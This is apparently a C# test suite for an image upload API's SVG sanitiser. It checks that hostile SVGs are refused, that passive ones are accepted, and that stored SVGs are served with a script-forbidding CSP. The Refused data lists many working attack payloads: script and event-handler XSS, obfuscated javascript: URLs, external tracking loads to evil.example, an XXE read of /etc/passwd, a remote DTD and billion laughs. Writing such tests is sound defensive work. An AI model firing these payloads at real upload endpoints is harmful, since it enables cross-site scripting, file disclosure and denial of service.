using System.Net;
using System.Text;
using Credentials.Tests.Infrastructure;

namespace Credentials.Tests.Images;

/// <summary>
/// B3: an SVG with active content, references outside itself or DTD tricks is refused with 400 and
/// nothing is stored; a passive one (a plain DOCTYPE line, embedded raster data, #fragment
/// references) is accepted, and is served with a CSP that forbids scripts as a second line of defence.
/// </summary>
[Collection(ApiCollection.Name)]
public sealed class SvgSafetyTests(SqliteApiFixture fixture)
{
    private const string Ns = """xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" """;
    private const string Png1x1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    private readonly ApiFactory _factory = fixture.Factory;
    private readonly HttpClient _client = fixture.Factory.AdminClient();

    /// <summary>Each hostile document, named by what it tries.</summary>
    public static TheoryData<string, string> Refused => new()
    {
        { "script element", $"""<svg {Ns}><script>alert(1)</script></svg>""" },
        { "script element with a prefix", """<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>""" },
        { "script element in upper case", $"""<svg {Ns}><SCRIPT>alert(1)</SCRIPT></svg>""" },
        { "xhtml script element", $"""<svg {Ns}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>""" },
        { "external script", $"""<svg {Ns}><script href="https://evil.example/x.js"/></svg>""" },
        { "foreignObject", $"""<svg {Ns}><foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject></svg>""" },
        { "foreignobject in lower case", $"""<svg {Ns}><foreignobject/></svg>""" },
        { "iframe", $"""<svg {Ns}><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></svg>""" },
        { "onload on the root", $"""<svg {Ns} onload="alert(1)"/>""" },
        { "onclick on a child", $"""<svg {Ns}><rect width="1" height="1" onclick="alert(1)"/></svg>""" },
        { "event handler in upper case", $"""<svg {Ns}><rect ONMOUSEOVER="alert(1)"/></svg>""" },
        { "javascript href", $"""<svg {Ns}><a href="javascript:alert(1)"><rect width="1" height="1"/></a></svg>""" },
        { "javascript in mixed case", $"""<svg {Ns}><a href="JaVaScRiPt:alert(1)"><text>x</text></a></svg>""" },
        { "javascript with a tab inside the scheme", $"""<svg {Ns}><a href="java&#9;script:alert(1)"><text>x</text></a></svg>""" },
        { "javascript with a newline inside the scheme", $"""<svg {Ns}><a href="java&#10;script:alert(1)"><text>x</text></a></svg>""" },
        { "javascript with a literal tab", $"<svg {Ns}><a href=\"java\tscript:alert(1)\"><text>x</text></a></svg>" },
        { "javascript after leading spaces", $"""<svg {Ns}><a href="   javascript:alert(1)"><text>x</text></a></svg>""" },
        { "javascript with an escaped colon", $"""<svg {Ns}><a href="javascript&#58;alert(1)"><text>x</text></a></svg>""" },
        { "javascript in xlink:href", $"""<svg {Ns}><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>""" },
        { "javascript set by animation", $"""<svg {Ns}><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>""" },
        { "external http href", $"""<svg {Ns}><image href="http://evil.example/track.png" width="1" height="1"/></svg>""" },
        { "external https href", $"""<svg {Ns}><image href="https://evil.example/track.png"/></svg>""" },
        { "protocol-relative href", $"""<svg {Ns}><image href="//evil.example/track.png"/></svg>""" },
        { "relative file href", $"""<svg {Ns}><image href="secret.png"/></svg>""" },
        { "file url href", $"""<svg {Ns}><image href="file:///etc/passwd"/></svg>""" },
        { "svg data uri", $"""<svg {Ns}><image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/></svg>""" },
        { "html data uri", $"""<svg {Ns}><image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/></svg>""" },
        { "external xlink:href", $"""<svg {Ns}><image xlink:href="http://evil.example/x.png"/></svg>""" },
        { "xlink under another prefix", """<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"><image l:href="http://evil.example/x.png"/></svg>""" },
        { "use of an external document", $"""<svg {Ns}><use href="http://evil.example/sprite.svg#icon"/></svg>""" },
        { "use of another local file", $"""<svg {Ns}><use xlink:href="sprite.svg#icon"/></svg>""" },
        { "feImage external", $"""<svg {Ns}><filter id="f"><feImage href="https://evil.example/x.png"/></filter></svg>""" },
        { "external href set by animation", $"""<svg {Ns}><use href="#a"><set attributeName="href" to="https://evil.example/x.svg#a"/></use></svg>""" },
        { "external href animated by values", $"""<svg {Ns}><use href="#a"><animate attributeName="xlink:href" values="#a;https://evil.example/x.svg#a"/></use></svg>""" },
        { "event handler set by animation", $"""<svg {Ns}><set attributeName="onclick" to="alert(1)"/></svg>""" },
        { "css url in a style attribute", $"""<svg {Ns}><rect style="fill: url(http://evil.example/track)"/></svg>""" },
        { "css url with quotes", $"""<svg {Ns}><rect style="background:url('https://evil.example/x.png')"/></svg>""" },
        { "css url in a presentation attribute", $"""<svg {Ns}><rect fill="url(https://evil.example/p.svg#g)"/></svg>""" },
        { "css url in a style element", $$"""<svg {{Ns}}><style>rect { fill: url("https://evil.example/t") }</style><rect/></svg>""" },
        { "css url in a style element's CDATA", $$"""<svg {{Ns}}><style><![CDATA[ rect { cursor: url(https://evil.example/c.cur), auto } ]]></style></svg>""" },
        { "css @import", $"""<svg {Ns}><style>@import "https://evil.example/x.css";</style></svg>""" },
        { "css @import in upper case", $"""<svg {Ns}><style>@IMPORT url(#x);</style></svg>""" },
        { "css @font-face with an external source", $$"""<svg {{Ns}}><style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style></svg>""" },
        { "css escape spelling url", $$"""<svg {{Ns}}><style>rect { fill: u\72l(https://evil.example/t) }</style></svg>""" },
        { "css escape spelling @import", $"""<svg {Ns}><style>@\69mport "https://evil.example/x.css";</style></svg>""" },
        { "css image-set with a string", $$"""<svg {{Ns}}><style>svg { background-image: image-set("https://evil.example/x.png" 1x) }</style></svg>""" },
        { "javascript in css", $"""<svg {Ns}><rect style="fill: url(javascript:alert(1))"/></svg>""" },
        { "script right after a style element", $$"""<svg {{Ns}}><style>rect { fill: red }</style><script>alert(1)</script></svg>""" },
        { "event handler right after a style element", $$"""<svg {{Ns}}><style>rect { fill: red }</style><rect onload="alert(1)"/></svg>""" },
        { "entity declaration", $"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "boom">]><svg {Ns}><text>&x;</text></svg>""" },
        { "billion laughs", $"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><svg {Ns}><text>&lol3;</text></svg>""" },
        { "external entity", $"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg {Ns}><text>&xxe;</text></svg>""" },
        { "parameter entity", $"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg {Ns}/>""" },
        { "doctype internal subset without entities", $"""<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {Ns}/>""" },
        { "doctype internal subset after a quoted '>'", $"""<!DOCTYPE svg PUBLIC "-//x>y//EN" "x.dtd" [<!ATTLIST svg onload CDATA "alert(1)">]><svg {Ns}/>""" },
        { "doctype internal subset behind a doctype in a comment", $"""<!-- <!DOCTYPE svg> --><!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {Ns}/>""" },
        { "undeclared entity", $"""<svg {Ns}><text>&undefined;</text></svg>""" },
        { "xml-stylesheet", $"""<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css" type="text/css"?><svg {Ns}/>""" },
        { "xml-stylesheet with xslt", $"""<?xml-stylesheet type="text/xsl" href="#x"?><svg {Ns}/>""" },
        { "another root element", """<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>""" },
        { "not well-formed", $"""<svg {Ns}><rect></svg>""" },
        { "two roots", $"""<svg {Ns}/><svg {Ns}/>""" },
        // Issue 8: an allow-list, not a deny-list. Other namespaces' elements load things on their own.
        { "xhtml img srcset", $"""<svg {Ns}><h:img xmlns:h="http://www.w3.org/1999/xhtml" srcset="https://evil.example/t.png 1x"/></svg>""" },
        { "xhtml video poster", $"""<svg {Ns}><video xmlns="http://www.w3.org/1999/xhtml" poster="https://evil.example/t.png"/></svg>""" },
        { "xhtml link imagesrcset", $"""<svg {Ns}><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preload" as="image" imagesrcset="https://evil.example/t.png 1x"/></svg>""" },
        { "xhtml a ping", $"""<svg {Ns}><h:a xmlns:h="http://www.w3.org/1999/xhtml" href="#x" ping="https://evil.example/p">x</h:a></svg>""" },
        { "xhtml meta refresh", $"""<svg {Ns}><h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/></svg>""" },
        { "element of an unknown namespace", $"""<svg {Ns}><x:thing xmlns:x="urn:example:x"/></svg>""" },
        { "element in no namespace", $"""<svg {Ns}><rect xmlns=""/></svg>""" },
        { "root svg in no namespace", """<svg><rect/></svg>""" },
        { "unknown svg element", $"""<svg {Ns}><animateColor attributeName="fill" to="red"/></svg>""" },
        { "ping on an svg link", $"""<svg {Ns}><a href="#x" ping="https://evil.example/p"><text>x</text></a></svg>""" },
        { "srcset on an svg image", $"""<svg {Ns}><image href="#x" srcset="https://evil.example/t.png 1x"/></svg>""" },
        { "xml:base", $"""<svg {Ns} xml:base="https://evil.example/"><use href="#a"/></svg>""" },
        { "xlink attribute other than href", $"""<svg {Ns}><a xlink:href="#x" xlink:show="new"><text>x</text></a></svg>""" },
        { "attribute of another namespace", $"""<svg {Ns}><rect h:src="https://evil.example/t" xmlns:h="http://www.w3.org/1999/xhtml"/></svg>""" },
        { "data uri on use", $"""<svg {Ns}><use href="data:image/png;base64,{Png1x1}"/></svg>""" },
        { "animating fill to an external paint", $"""<svg {Ns}><rect><animate attributeName="fill" values="red;url(https://evil.example/p.svg#g)"/></rect></svg>""" },
        { "animating style", $"""<svg {Ns}><rect><set attributeName="style" to="fill:red"/></rect></svg>""" },
        { "element inside style", $$"""<svg {{Ns}}><style><g/>rect { fill: red }</style></svg>""" },
        { "@import split by a comment node", $"""<svg {Ns}><style>@im<!-- -->port "https://evil.example/x.css";</style></svg>""" },
        { "css url with spaces inside", $"""<svg {Ns}><rect style="fill: url( https://evil.example/t )"/></svg>""" },
        { "css url left open", $"""<svg {Ns}><rect style="fill: url(https://evil.example/t"/></svg>""" },
        { "css malformed url", $"""<svg {Ns}><rect style="fill: url(https://evil.example/t'x)"/></svg>""" },
        { "css url spelled with an escape inside", $$"""<svg {{Ns}}><style>rect { fill: url(\68ttps://evil.example/t) }</style></svg>""" },
        { "css url in upper case with a quoted value", $$"""<svg {{Ns}}><style>rect { fill: URL( 'https://evil.example/t' ) }</style></svg>""" },
        { "css src()", $$"""<svg {{Ns}}><style>@font-face { font-family: x; src: src("https://evil.example/f.woff") }</style></svg>""" },
        { "css prefixed image-set", $$"""<svg {{Ns}}><style>svg { background: -webkit-image-set("https://evil.example/x.png" 1x) }</style></svg>""" },
        { "css expression", $"""<svg {Ns}><rect style="width: expression(alert(1))"/></svg>""" },
        { "css font data uri", $$"""<svg {{Ns}}><style>@font-face { font-family: x; src: url(data:font/woff2;base64,AAAA) }</style></svg>""" },
        { "two doctypes", $"""<!DOCTYPE svg><!DOCTYPE svg><svg {Ns}/>""" },
        { "processing instruction after the root", $"""<svg {Ns}/><?xml-stylesheet href="https://evil.example/x.css"?>""" },
    };

    public static TheoryData<string, string> Accepted => new()
    {
        { "plain svg", $"""<svg {Ns} width="10" height="10"><rect width="10" height="10" fill="#c00"/></svg>""" },
        { "xml declaration", $"""<?xml version="1.0" encoding="UTF-8" standalone="no"?><svg {Ns}/>""" },
        { "svg 1.1 doctype line", $"""<?xml version="1.0" standalone="no"?>{"\n"}<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">{"\n"}<svg {Ns} version="1.1"><circle r="4"/></svg>""" },
        { "png data uri image", $"""<svg {Ns}><image href="data:image/png;base64,{Png1x1}" width="1" height="1"/></svg>""" },
        { "jpeg data uri in xlink:href", $"""<svg {Ns}><image xlink:href="data:image/jpeg;base64,/9j/4AAQ" /></svg>""" },
        { "fragment references", $"""<svg {Ns}><defs><linearGradient id="g"><stop offset="0"/></linearGradient><path id="p" d="M0 0h1"/></defs><use href="#p"/><use xlink:href="#p"/><rect fill="url(#g)" style="stroke: url(#g)"/></svg>""" },
        { "style element with local urls", $$"""<svg {{Ns}}><style>rect { fill: url(#g); stroke: red } .a { opacity: .5 }</style><rect class="a"/></svg>""" },
        { "comments and whitespace", $"""{"\n  "}<!-- drawn by hand --><svg {Ns}>{"\n"}<!-- a comment --><g><text x="1" y="1">javascript is only text here</text></g></svg>""" },
        { "utf-8 bom", $"\uFEFF<svg {Ns}/>" },
        { "link to a local anchor", $"""<svg {Ns}><a href="#top"><text>top</text></a></svg>""" },
        { "internal animation", $"""<svg {Ns}><rect width="1" height="1"><animate attributeName="opacity" values="0;1" dur="1s"/></rect></svg>""" },
        { "inkscape document", InkscapeSvg },
        { "illustrator export", $$"""<?xml version="1.0" encoding="utf-8"?><!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  --><svg version="1.1" id="Layer_1" {{Ns}} x="0px" y="0px" viewBox="0 0 10 10" style="enable-background:new 0 0 10 10;" xml:space="preserve"><style type="text/css">.st0{fill:#FFFFFF;}</style><g data-name="Layer 1"><rect class="st0" width="10" height="10"/></g></svg>""" },
        { "css strings, at-rules and local fonts", $$"""<svg {{Ns}}><style>@media (min-width: 10px) { text { font-family: "Open Sans", 'Arial'; } } @font-face { font-family: x; src: local("Arial") } /* url(https://not.loaded/in/a/comment) */ text::after { content: "url(https://only.text)" }</style><text>x</text></svg>""" },
        { "filters and a local feImage", $"""<svg {Ns}><filter id="f" x="0" y="0"><feGaussianBlur in="SourceGraphic" stdDeviation="2" result="b"/><feImage href="#p"/><feMerge><feMergeNode in="b"/></feMerge></filter><path id="p" d="M0 0h1" filter="url(#f)"/></svg>""" },
        { "animation to a local paint", $"""<svg {Ns}><rect><animate attributeName="fill" values="red;url(#g)" dur="2s" repeatCount="indefinite"/><animateTransform attributeName="transform" type="rotate" from="0" to="360" dur="1s"/></rect></svg>""" },
        { "accessibility attributes", $"""<svg {Ns} role="img" aria-labelledby="t"><title id="t">A logo</title><desc>Drawn</desc><rect aria-hidden="true"/></svg>""" },
        { "raster data uri in css", $"""<svg {Ns}><rect style="fill: url('data:image/png;base64,{Png1x1}')"/></svg>""" },
    };

    /// <summary>What Inkscape 1.x saves (trimmed): its own and Sodipodi's namespaces, RDF metadata, xml:space.</summary>
    private const string InkscapeSvg = """
        <?xml version="1.0" encoding="UTF-8" standalone="no"?>
        <!-- Created with Inkscape (http://www.inkscape.org/) -->
        <svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5"
           inkscape:version="1.2.2 (b0a8486541, 2022-12-01)" sodipodi:docname="badge.svg" xml:space="preserve"
           xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
           xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
           xmlns:xlink="http://www.w3.org/1999/xlink"
           xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
           xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"
           xmlns:dc="http://purl.org/dc/elements/1.1/">
          <sodipodi:namedview id="namedview7" pagecolor="#ffffff" bordercolor="#666666" borderopacity="1.0"
             inkscape:showpageshadow="2" inkscape:pageopacity="0.0" inkscape:document-units="mm" showgrid="false"
             inkscape:zoom="0.7" inkscape:current-layer="layer1"><inkscape:grid type="xygrid" id="grid1"/></sodipodi:namedview>
          <defs id="defs2"><linearGradient inkscape:collect="always" id="linearGradient1"><stop style="stop-color:#c00;stop-opacity:1;" offset="0" id="stop1"/></linearGradient>
            <linearGradient inkscape:collect="always" xlink:href="#linearGradient1" id="linearGradient2" x1="0" y1="0" x2="10" y2="10" gradientUnits="userSpaceOnUse"/>
            <inkscape:path-effect effect="spiro" id="path-effect1" is_visible="true" lpeversion="1"/></defs>
          <metadata id="metadata1"><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format>
            <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/><dc:title>Badge</dc:title></cc:Work></rdf:RDF></metadata>
          <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
            <path style="fill:url(#linearGradient2);stroke:#000000;stroke-width:0.264583" d="M 10,10 H 50 V 50 Z" id="path1" sodipodi:nodetypes="cccc" inkscape:path-effect="#path-effect1"/>
            <text xml:space="preserve" style="font-size:10.5833px;font-family:'DejaVu Sans';-inkscape-font-specification:'DejaVu Sans'" x="20" y="40" id="text1"><tspan sodipodi:role="line" id="tspan1" x="20" y="40">Badge</tspan></text>
          </g>
        </svg>
        """;

    [Theory, MemberData(nameof(Refused))]
    public async Task A_hostile_svg_is_refused_with_400_and_nothing_is_stored(string attack, string svg)
    {
        var org = await _client.CreatePlatformAsync();

        var response = await _client.PostAsync(ImageRequests.Images(org), ImageRequests.Upload(Encoding.UTF8.GetBytes(svg), "drawing.svg", "image/svg+xml"));

        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{attack}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        await response.InvalidAsync("image");
        Assert.Empty(await _client.SearchImagesAsync(org, ""));
        Assert.Empty(ImageRequests.BlobFiles(_factory, org));
    }

    [Theory, MemberData(nameof(Accepted))]
    public async Task A_passive_svg_is_accepted_and_served_as_svg_with_a_policy_that_forbids_scripts(string kind, string svg)
    {
        var org = await _client.CreatePlatformAsync();
        var bytes = Encoding.UTF8.GetBytes(svg);

        var response = await _client.PostAsync(ImageRequests.Images(org), ImageRequests.Upload(bytes, "drawing.svg", "image/svg+xml"));

        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{kind}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        var url = (await response.JsonAsync())["image"]!.GetValue<string>();
        Assert.EndsWith(".svg", url);
        var media = await _factory.CreateClient().GetAsync(url);
        Assert.Equal("image/svg+xml", media.Content.Headers.ContentType?.MediaType);
        Assert.Equal(bytes, await media.Content.ReadAsByteArrayAsync());
        AssertPolicyForbidsScripts(media);
    }

    [Fact]
    public async Task An_svg_is_never_fetched_from_the_doctype_even_when_it_points_somewhere()
    {
        var org = await _client.CreatePlatformAsync();
        // An unroutable address: fetching it would hang or fail the request.
        var svg = $"""<!DOCTYPE svg SYSTEM "http://10.255.255.1/never.dtd"><svg {Ns}/>""";

        var response = await _client.PostAsync(ImageRequests.Images(org), ImageRequests.Upload(Encoding.UTF8.GetBytes(svg), "d.svg"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    [Fact]
    public async Task An_svg_that_is_not_utf8_text_is_refused()
    {
        var org = await _client.CreatePlatformAsync();
        byte[] latin1 = [.. Encoding.ASCII.GetBytes($"<svg {Ns}><text>caf"), 0xE9, .. "</text></svg>"u8];

        var response = await _client.PostAsync(ImageRequests.Images(org), ImageRequests.Upload(latin1, "d.svg"));

        await response.InvalidAsync("image");
    }

    [Fact]
    public async Task The_refusal_says_what_was_refused()
    {
        var org = await _client.CreatePlatformAsync();
        var svg = $"""<svg {Ns}><script>alert(1)</script></svg>""";

        var response = await _client.PostAsync(ImageRequests.Images(org), ImageRequests.Upload(Encoding.UTF8.GetBytes(svg), "d.svg"));

        Assert.Contains("script", (await response.ProblemAsync())["detail"]!.GetValue<string>());
    }

    private static void AssertPolicyForbidsScripts(HttpResponseMessage media)
    {
        Assert.True(media.Headers.TryGetValues("Content-Security-Policy", out var values), "SVG is served without a Content-Security-Policy.");
        var policy = string.Join(",", values!);
        var directives = policy.Split(';', StringSplitOptions.TrimEntries | StringSplitOptions.RemoveEmptyEntries);
        // No script-src: scripts fall back to default-src, which must allow nothing.
        Assert.Contains("default-src 'none'", directives);
        Assert.DoesNotContain(directives, d => d.StartsWith("script-src", StringComparison.OrdinalIgnoreCase));
        Assert.Contains(directives, d => d == "sandbox");
        Assert.DoesNotContain("allow-scripts", policy);
        Assert.DoesNotContain("unsafe-eval", policy);
        Assert.Equal("nosniff", Assert.Single(media.Headers.GetValues("X-Content-Type-Options")));
    }
}
